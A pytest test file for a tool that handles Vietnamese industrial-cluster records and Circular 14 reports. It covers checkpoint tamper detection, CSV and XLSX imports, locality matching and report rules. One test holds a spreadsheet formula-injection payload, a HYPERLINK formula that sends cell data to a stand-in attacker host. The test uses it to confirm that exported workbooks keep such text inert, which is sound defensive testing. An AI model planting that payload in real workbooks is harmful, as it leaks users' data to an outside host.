"""Fixes from the review of issue 13: checkpoints of Form 02, safe workbooks, exact
localities, figures that would be dropped, the Art. 8.1(c) test on exact values."""

from __future__ import annotations

import io
import json
from datetime import datetime
from pathlib import Path

import pytest
from freezegun import freeze_time
from openpyxl import load_workbook

from ..conftest import FROZEN_NOW, Ccn, raw_sql
from .test_form02 import ok, portfolio


@pytest.fixture(autouse=True)
def frozen():
    with freeze_time(FROZEN_NOW):  # 02/03/2026
        yield


def record(ccn: Ccn, code: str, *args: str) -> None:
    ok(ccn("indicators", "record", code, "--period", "2026H1", *args))


def lines(ccn: Ccn, *args: str) -> tuple[int, list[str]]:
    r = ccn("audit", "verify", *args)
    return r.exit_code, r.stdout.splitlines()


# 1. Form 02 records deleted behind the tool's back are found against a checkpoint.


@pytest.mark.parametrize(
    ("statement", "finding"),
    [
        ("DELETE FROM indicators",
         "BROKEN Form 02: missing: no records left (checkpoint had seq 2)"),
        ("DELETE FROM indicators WHERE seq = 2",
         "BROKEN Form 02: cut short (checkpoint had seq 2, now 1): records were removed"),
    ],
)  # fmt: skip
def test_deleted_form02_records_are_found_against_a_checkpoint(
    ccn: Ccn, db_url: str, tmp_path: Path, statement: str, finding: str
) -> None:
    portfolio(ccn)
    record(ccn, "HT1", "--leased-ha", "1")
    record(ccn, "BS2", "--leased-ha", "2")
    cp = tmp_path / "cp.json"
    ok(ccn("audit", "checkpoint", "--out", str(cp)))
    doc = json.loads(cp.read_text())
    assert doc["format"] == "ccn-checkpoint/4"
    assert doc["indicators"]["seq"] == 2
    assert lines(ccn, "--against", str(cp))[0] == 0
    raw_sql(db_url, statement, unlock=("indicators",))
    assert lines(ccn, "--against", str(cp)) == (1, [finding])


def test_a_checkpoint_whose_form02_head_was_edited_gives_itself_away(
    ccn: Ccn, tmp_path: Path
) -> None:
    portfolio(ccn)
    record(ccn, "HT1", "--leased-ha", "1")
    cp = tmp_path / "cp.json"
    ok(ccn("audit", "checkpoint", "--out", str(cp)))
    doc = json.loads(cp.read_text())
    doc["indicators"] = None
    cp.write_text(json.dumps(doc))
    altered = "BROKEN checkpoint: the file's heads do not match its root: it was altered"
    assert lines(ccn, "--against", str(cp)) == (1, [altered])


def test_a_format_2_checkpoint_still_verifies_the_clusters(ccn: Ccn, tmp_path: Path) -> None:
    portfolio(ccn)
    record(ccn, "HT1", "--leased-ha", "1")
    cp = tmp_path / "cp.json"
    ok(ccn("audit", "checkpoint", "--out", str(cp)))
    doc = json.loads(cp.read_text())
    del doc["indicators"]
    doc["format"] = "ccn-checkpoint/2"
    from workflow.checkpoints import root_of

    doc["root"] = root_of((h["code"], h["seq"], h["hash"]) for h in doc["heads"])[0]
    cp.write_text(json.dumps(doc))
    assert lines(ccn, "--against", str(cp)) == (0, [
        "OK: 2 clusters, 2 transitions verified",
        "OK: 1 Form 02 indicator records verified",
        f"OK: everything covered by {cp} is present and unchanged"])  # fmt: skip


# 2. Text that looks like a formula stays text in every workbook.

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_text_starting_with_equals_is_never_a_formula_in_xlsx(ccn: Ccn, tmp_path: Path) -> None:
    ok(ccn("cluster", "add", "FX", "--name", EVIL, "--locality", "=1+1", "--state",
           "investment_approval", "--since", "2025-01-01", "--ref", "r"))  # fmt: skip
    ok(ccn("indicators", "record", "FX", "--period", "2025", "--leased-ha", "1", "--note",
           "=2+2"))  # fmt: skip
    books = [
        ccn("cluster", "list", "--format", "xlsx").stdout_bytes,
        ccn("indicators", "list", "--format", "xlsx").stdout_bytes,
        ccn("report", "circular14", "--period", "2026H1", "--format", "xlsx").stdout_bytes,
    ]
    seen = set()
    for data in books:
        wb = load_workbook(io.BytesIO(data))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                    if isinstance(c.value, str) and c.value.startswith("="):
                        seen.add(c.value)
    assert seen == {EVIL, "=1+1", "=2+2"}


# 3 and 10. Form 03 is for one locality, named whole; Form 04 takes none.


def places(ccn: Ccn) -> None:
    for code, place, area in (("A1", "Xã Một", "10"), ("A2", "Xã Hai", "20"),
                              ("A3", "Cao Lộc", "40")):  # fmt: skip
        ok(ccn("cluster", "add", code, "--name", f"Cụm {code}", "--locality", place,
               "--area-ha", area, "--state", "investment_approval", "--since", "2025-01-01",
               "--ref", "QĐ 1"))  # fmt: skip


def form03_area(ccn: Ccn, locality: str) -> float:
    r = ok(ccn("report", "circular14", "--period", "2026H1", "--form", "03", "--locality",
               locality, "--format", "json"))  # fmt: skip
    return {row["no"]: row["value"] for row in json.loads(r.stdout)}["2"]


def test_form03_takes_the_whole_locality_name(ccn: Ccn) -> None:
    places(ccn)
    assert form03_area(ccn, "xã  một") == 10.0
    assert form03_area(ccn, "XÃ HAI") == 20.0
    for given, hint in (("Xã", "; did you mean 'Xã Hai', 'Xã Một'?"),
                        ("Cao", "; did you mean 'Cao Lộc'?"), ("Nowhere", "")):  # fmt: skip
        r = ccn("report", "circular14", "--period", "2026H1", "--form", "03", "--locality", given)
        assert (r.exit_code, r.stdout, r.stderr) == (
            1, "", f"Error: no cluster is in locality {given!r}{hint}\n")  # fmt: skip


def test_form04_refuses_a_locality(ccn: Ccn) -> None:
    places(ccn)
    r = ccn("report", "circular14", "--period", "2026H1", "--locality", "Xã Một")
    assert (r.exit_code, r.stdout, r.stderr) == (
        1, "", "Error: form 04 is the whole province: for one locality ask for form 03 "
        "(--form 03)\n")  # fmt: skip


# 4 and Low. Figures no report would count are refused; those stored before are named.


def test_form02_for_a_period_before_the_cluster_was_in_the_plan_is_refused(
    ccn: Ccn, tmp_path: Path
) -> None:
    ok(ccn("cluster", "add", "Q", "--name", "Q", "--area-ha", "10"))  # today, 02/03/2026
    r = ccn("indicators", "record", "Q", "--period", "2025", "--projects", "3")
    assert (r.exit_code, r.stderr) == (1, (
        "Error: Q was not in the plan by 14/12/2025, the end of 2025 (its history starts on "
        "02/03/2026): no report for 2025 would count these figures\n"))  # fmt: skip
    f = tmp_path / "f.csv"
    f.write_text("code,period,projects\nQ,2025,3\n", encoding="utf-8")
    r = ccn("indicators", "import", str(f))
    assert r.exit_code == 1
    assert r.stderr.splitlines()[0] == (
        "line 2: Q was not in the plan by 14/12/2025, the end of 2025 (its history starts on "
        "02/03/2026): no report for 2025 would count these figures"
    )
    record(ccn, "Q", "--projects", "3")  # 2026H1 ends after it entered the plan


def test_figures_stored_before_the_refusal_are_named_by_the_report(
    ccn: Ccn, monkeypatch: pytest.MonkeyPatch
) -> None:
    ok(ccn("cluster", "add", "Q", "--name", "Q", "--area-ha", "10"))
    import workflow.form02

    monkeypatch.setattr(workflow.form02, "cluster_problem", lambda *a: None)  # an older ccn
    ok(ccn("indicators", "record", "Q", "--period", "2025", "--projects", "3"))
    r = ok(ccn("report", "circular14", "--period", "2025", "--format", "json"))
    assert r.stderr == "Warning: Form 02 for Q ignored: Q was not in the plan by 14/12/2025\n"


@pytest.mark.parametrize(
    ("period", "error"),
    [
        ("2024H1", "2024H1 ended on 14/06/2024, before Circular 14/2024/TT-BCT took effect on "
                   "01/10/2024: no Form 02 is due for it"),
        ("2027H1", "2027H1 has not begun: its data period starts on 15/12/2026"),
        ("2027", "2027 has not begun: its data period starts on 15/12/2026"),
    ],
)  # fmt: skip
def test_form02_for_a_period_without_one_is_refused(ccn: Ccn, period: str, error: str) -> None:
    ok(ccn("cluster", "add", "Q", "--name", "Q", "--since", "2023-01-01"))
    r = ccn("indicators", "record", "Q", "--period", period, "--projects", "3")
    assert (r.exit_code, r.stderr) == (1, f"Error: {error}\n")
    ok(ccn("indicators", "record", "Q", "--period", "2024", "--projects", "3"))


def test_form02_for_a_cluster_cancelled_before_the_period_is_refused(ccn: Ccn) -> None:
    ok(ccn("cluster", "add", "Q", "--name", "Q", "--since", "2024-01-01"))
    ok(ccn("cancel", "Q", "--on", "2025-03-01", "--ref", "QĐ 9", "--reason", "bỏ quy hoạch"))
    r = ccn("indicators", "record", "Q", "--period", "2026H1", "--projects", "3")
    assert (r.exit_code, r.stderr) == (
        1, "Error: Q was cancelled before 2026H1 began on 15/12/2025\n")  # fmt: skip
    ok(ccn("indicators", "record", "Q", "--period", "2025", "--projects", "3"))


# 5. Industrial land can't shrink below the land a Form 02 says is leased.


def test_cluster_edit_cannot_shrink_industrial_land_below_the_leased_land(ccn: Ccn) -> None:
    portfolio(ccn)  # HT1: 40 ha of industrial land
    record(ccn, "HT1", "--leased-ha", "30")
    r = ccn("cluster", "edit", "HT1", "--industrial-land-ha", "20", "--reason", "QĐ 9")
    assert (r.exit_code, r.stderr) == (1, "Error: HT1 2026H1: leased_ha 30 is more than the "
                                       "cluster's industrial land 20 ha: correct that Form 02 "
                                       "first\n")  # fmt: skip
    ok(ccn("cluster", "edit", "HT1", "--industrial-land-ha", "30", "--reason", "QĐ 9"))


# 7. A past period's report reads the facts as recorded by its end.


def form04(ccn: Ccn, period: str = "2026H1") -> dict[str, object]:
    r = ok(ccn("report", "circular14", "--period", period, "--format", "json"))
    return {row["no"]: row["value"] for row in json.loads(r.stdout)}


def test_a_past_report_uses_the_facts_recorded_by_its_period_end(ccn: Ccn) -> None:
    portfolio(ccn)  # HT1: enterprise, craft village, established; 02/03/2026
    record(ccn, "HT1", "--projects", "2")
    before = form04(ccn)
    assert (before["7"], before["15.3"], before["8"]) == (1, 1, 60.0)
    with freeze_time("2026-07-01 03:00:00"):  # after 2026H1 ended on 14/06/2026
        ok(ccn("cluster", "edit", "HT1", "--kind", "general", "--developer-kind", "public",
               "--area-ha", "70", "--reason", "QĐ 99"))  # fmt: skip
        assert form04(ccn) == before
        after = form04(ccn, "2026")
        assert (after["7"], after["8"], after["2"]) == (0, 0.0, 115.0)


# 8. Rows 9-12 and 26-27 say "no data" when nothing is recorded, in words that are true.


def test_infrastructure_rows_without_any_milestone_are_no_data(ccn: Ccn) -> None:
    portfolio(ccn)
    r = ok(ccn("report", "circular14", "--period", "2026H1", "--format", "json"))
    rows = {row["no"]: (row["value"], row["note"]) for row in json.loads(r.stdout)}
    none = (None, "no data: no infrastructure milestone is recorded for any established cluster")
    assert [rows[n] for n in ("9", "10", "11", "12")] == [none] * 4
    plant = (None, "no data: no wastewater plant milestone is recorded and no Form 02 for the "
                   "period gives wastewater_plant")  # fmt: skip
    assert rows["26"] == rows["27"] == plant
    ok(ccn("milestone", "HT1", "detailed_plan_approved", "--on", "2026-01-05"))
    r = ok(ccn("report", "circular14", "--period", "2026H1", "--format", "json"))
    rows = {row["no"]: (row["value"], row["note"]) for row in json.loads(r.stdout)}
    said = "from recorded milestones; 1 established cluster(s) have none"
    assert rows["9"] == (1, said) and rows["11"] == (0, said)


# 9. No --out replaces an existing file without --force; each is written whole.


@pytest.mark.parametrize(
    "command",
    [
        ("report", "circular14", "--period", "2026H1", "--format", "xlsx"),
        ("report", "circular14", "--period", "2026H1", "--format", "json"),
        ("report", "html"),
        ("audit", "checkpoint"),
    ],
)
def test_an_existing_out_file_is_refused_unless_forced(
    ccn: Ccn, tmp_path: Path, command: tuple[str, ...]
) -> None:
    portfolio(ccn)
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "existing.csv"
    out.write_text("kept", encoding="utf-8")
    r = ccn(*command, "--out", str(out))
    assert (r.exit_code, r.stdout, r.stderr) == (
        1, "", f"Error: {out} already exists; give --force to replace it\n")  # fmt: skip
    assert out.read_text(encoding="utf-8") == "kept"
    ok(ccn(*command, "--out", str(out), "--force"))
    assert out.read_bytes() != b"kept"
    assert [p.name for p in out.parent.iterdir()] == ["existing.csv"]  # no temporary left


def test_demo_does_not_overwrite_a_workbook_in_its_folder(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from cli import cli

    book = tmp_path / "circular14-2025.xlsx"
    book.write_bytes(b"someone's")
    r = CliRunner().invoke(cli, ["demo", "--dir", str(tmp_path)])
    assert r.exit_code == 1
    assert r.output.endswith(f"Error: {book} already exists; remove it or choose another --dir\n")
    assert book.read_bytes() == b"someone's"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["circular14-2025.xlsx"]


# 11, 12 and 13. Semicolon CSV, every problem of a line, the stored lookup key verified.


def test_a_semicolon_csv_from_vietnamese_excel_imports(ccn: Ccn, tmp_path: Path) -> None:
    portfolio(ccn)
    f = tmp_path / "f02.csv"
    f.write_text("code;period;leased_ha;revenue_bn\nHT1;2026H1;12,5;1.234,5\n", encoding="utf-8")
    assert ok(ccn("indicators", "import", str(f))).stdout == "Imported 1 records.\n"
    shown = json.loads(ok(ccn("indicators", "list", "--format", "json")).stdout)
    assert (shown[0]["leased_ha"], shown[0]["revenue_bn"]) == (12.5, 1234.5)
    f.write_text("code;period;leased_ha\nHT1;2026H1;1.234\n", encoding="utf-8")
    r = ccn("indicators", "import", str(f))
    assert r.exit_code == 1
    assert r.stderr.splitlines()[0] == (
        "line 2: invalid leased_ha '1.234': ambiguous, '.' may group thousands or mark "
        "decimals: write 1234 for the whole number, or 1.2340 for the decimal"
    )


def test_an_import_line_with_a_bad_value_is_cross_checked_too(ccn: Ccn, tmp_path: Path) -> None:
    portfolio(ccn)
    f = tmp_path / "f02.csv"
    f.write_text("code,period,employees,projects,fdi_projects\nHT1,2026H1,x,1,5\n",
                 encoding="utf-8")  # fmt: skip
    r = ccn("indicators", "import", str(f))
    assert r.exit_code == 1
    assert r.stderr.splitlines()[:2] == [
        "line 2: invalid employees 'x': give a number",
        "line 2: fdi_projects 5 is more than projects 1",
    ]


def test_an_edited_code_key_of_a_form02_record_is_found(ccn: Ccn, db_url: str) -> None:
    portfolio(ccn)
    record(ccn, "HT1", "--leased-ha", "1")
    record(ccn, "BS2", "--leased-ha", "2")
    raw_sql(db_url, "UPDATE indicators SET code_key = 'G' WHERE seq = 2",
            unlock=("indicators",))  # fmt: skip
    assert lines(ccn) == (1, ["BROKEN indicators seq 2: changed row: its code_key is 'G', "
                              "expected 'BS2'"])  # fmt: skip


# 14. cluster show --format json states the Art. 8.1(c) test like the table does.


def test_cluster_show_json_states_the_establishment_test(ccn: Ccn) -> None:
    portfolio(ccn)  # Cao Lộc: HT1 40 ha and BS2 30 ha of industrial land, both established
    with freeze_time("2026-07-01 03:00:00"):
        record(ccn, "HT1", "--leased-ha", "30")
        record(ccn, "BS2", "--leased-ha", "10")
        shown = json.loads(ok(ccn("cluster", "show", "HT1", "--format", "json")).stdout)
        card = ok(ccn("cluster", "show", "HT1")).stdout
    test = shown["establishment_test"]
    assert test == {
        "locality": "Cao Lộc", "may_establish": True,
        "reason": "simple average occupancy 54.17% > 50%, unleased 30 ha <= 100 ha",
        "sentence": "Cao Lộc may establish another cluster (simple average occupancy 54.17% > "
                    "50%, unleased 30 ha <= 100 ha)",
        "established": 2, "with_data": 2, "simple_avg_pct": 54.17, "weighted_avg_pct": 57.14,
        "industrial_land_ha": 70.0, "leased_ha": 40.0, "unleased_ha": 30.0,
    }  # fmt: skip
    assert test["sentence"] in card


# Low. Workbook cells that cannot be read are named, never read as blank or 1.


def test_unreadable_xlsx_cells_are_named(ccn: Ccn, tmp_path: Path) -> None:
    from .test_form02 import _xlsx

    portfolio(ccn)
    f = tmp_path / "f02.xlsx"
    f.write_bytes(_xlsx([
        ["code", "period", "leased_ha", "projects", "employees"],
        ["HT1", "2026H1", "=SUM(1,2)", True, datetime(2026, 1, 1)],
        ["BS2", "2026H1", 1, 1, 5, "stray"],
    ]))  # fmt: skip
    r = ccn("indicators", "import", str(f))
    assert (r.exit_code, r.stdout) == (1, "")
    assert r.stderr == (
        "line 2: cell C2 holds a formula (=SUM(1,2)) with no value saved: open and save the "
        "file in Excel, or type the value\n"
        "line 2: invalid projects TRUE: give a number, not TRUE/FALSE\n"
        "line 2: invalid employees 01/01/2026: give a number, not a date\n"
        "line 3: cell F3 has a value but its column has no header\n"
        "Error: 4 problem(s); nothing imported\n"
    )
